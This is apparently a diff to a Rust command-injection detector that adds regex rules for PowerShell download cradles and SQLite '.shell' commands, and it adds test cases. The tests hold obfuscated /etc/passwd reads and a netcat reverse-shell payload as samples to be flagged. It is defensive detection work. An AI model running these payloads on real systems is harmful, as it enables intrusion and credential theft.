@@ -35,7 +35,7 @@ pub(super) const WORDS: &str = "(?:echo|printf|type|head|tail|more|less|find|sor
 /// What follows a command name: the end, a separator, an option, a path,
 /// a variable, a quote, a URL. (A comma only inside a brace expansion,
 /// `{cat,/etc/passwd}`: field lists such as `id,name` are everywhere.)
-const ARGS: &str = r"(?:\s*$|\s*[;&|`)\n]|\s+[-+/$'\x22`.~\\%]|\s+[a-z0-9_.-]+\s+-{1,2}[a-z]|\s+[a-z0-9_.-]+\s*[;&|`\n]|\s+[a-z0-9_.-]*\.(?:txt|sh|log|conf|py|pl|php|gz|zst|tar|zip)\b|\s+https?://)";
+const ARGS: &str = r"(?:\s*$|\s*[;&|`)\n]|\s+[-+/$'\x22`.~\\%]|\s+[a-z]:[\\/]|\s+[a-z0-9_.-]+\s+-{1,2}[a-z]|\s+[a-z0-9_.-]+\s*[;&|`\n]|\s+[a-z0-9_.-]*\.(?:txt|sh|log|conf|py|pl|php|gz|zst|tar|zip)\b|\s+https?://)";
 
 static SETS: LazyLock<[Set; 3]> = LazyLock::new(|| {
     [
@@ -113,6 +113,12 @@ static SETS: LazyLock<[Set; 3]> = LazyLock::new(|| {
                     // PowerShell: download cradles and their aliases.
                     "powershell cmdlet",
                     r"\b(?:invoke-(?:webrequest|expression|restmethod|command|item|wmimethod)|start-process|start-bitstransfer|new-object\s+(?:system\.)?net\.webclient|set-executionpolicy|get-wmiobject|add-mppreference)\b|\.\s*download(?:string|file|data)\s*\(|(?:^|[;&|`\n(])\s*(?:iwr|iex|irm|icm|iwmi|saps|gwmi)\s+\S",
+                ),
+                (
+                    // SQLite's shell runs a command after `.shell` or
+                    // `.system` (a query reaching the `sqlite3` CLI).
+                    "sqlite shell command",
+                    &format!(r"\.\s*(?:shell|system)\s+(?:/(?:usr/)?s?bin/)?(?:{TOOLS}|{WORDS})\b"),
                 ),
                 (
                     "alias definition",
@@ -258,11 +264,23 @@ fn in_pieces(lower: &str, shell: &str) -> bool {
     });
     static NAMED: LazyLock<Regex> = LazyLock::new(|| {
         Regex::new(&format!(
-            r"(?:^|[\s;&|`(])(?:/(?:usr/)?s?bin/)?(?:{TOOLS}|{WORDS})(?:$|[\s;&|`)+])"
+            r"(?:^|[\s;&|`(])(?:/(?:usr/)?s?bin/)?({TOOLS}|{WORDS})(?:$|[\s;&|`)+])"
         ))
         .expect("pattern compiles")
     });
-    shell.len() < lower.len() && SPLIT.is_match(lower) && NAMED.is_match(shell)
+    if shell.len() >= lower.len() || !SPLIT.is_match(lower) {
+        return false;
+    }
+    // The name must be one the joining made: "Wall Street\x99s" names
+    // `wall` whole, and its backslashes are elsewhere.
+    let whole: Vec<&str> = NAMED
+        .captures_iter(lower)
+        .filter_map(|c| c.get(1).map(|m| m.as_str()))
+        .collect();
+    NAMED
+        .captures_iter(shell)
+        .filter_map(|c| c.get(1))
+        .any(|m| !whole.contains(&m.as_str()))
 }
 
 /// Every `(kind, shape)` pattern set the value matches. `prose` is a
@@ -415,6 +433,7 @@ mod tests {
             "the sc team",
             "price US$-5 off, cash$?",
             "Q&A: what's $PATH? and $HOME",
+            r"Wall Street\xe2\x80\x99s benchmark index",
         ] {
             assert!(kinds(v).is_empty(), "{v}: {:?}", kinds(v));
         }
@@ -458,6 +477,8 @@ mod tests {
             "www.google.com;c$!at+/et$!c/pas$!swd",
             "x;c$?at /et$-c/passwd",
             "a=/etc&&b=/passwd&&c=cat&&$c $a$b",
+            r"powershell C:\windows\system32\notepad.exe",
+            ";\n.shell nc 10.10.10.1 6666 -e sh",
         ] {
             assert!(
                 kinds(v).contains(&"injection_command"),
